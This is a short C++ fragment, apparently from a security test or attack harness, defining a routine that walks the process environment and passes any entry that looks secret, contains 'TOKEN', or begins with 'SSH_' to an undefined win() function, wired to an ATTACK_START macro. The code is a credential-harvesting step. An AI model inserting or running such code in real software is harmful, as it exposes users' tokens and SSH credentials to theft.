extern char** environ;
static void look() {
    for (char** entry = environ; *entry != nullptr; ++entry) {
        if (has_secret(*entry) || strstr(*entry, "TOKEN") != nullptr || strncmp(*entry, "SSH_", 4) == 0) win(*entry);
    }
}
#define ATTACK_START look()
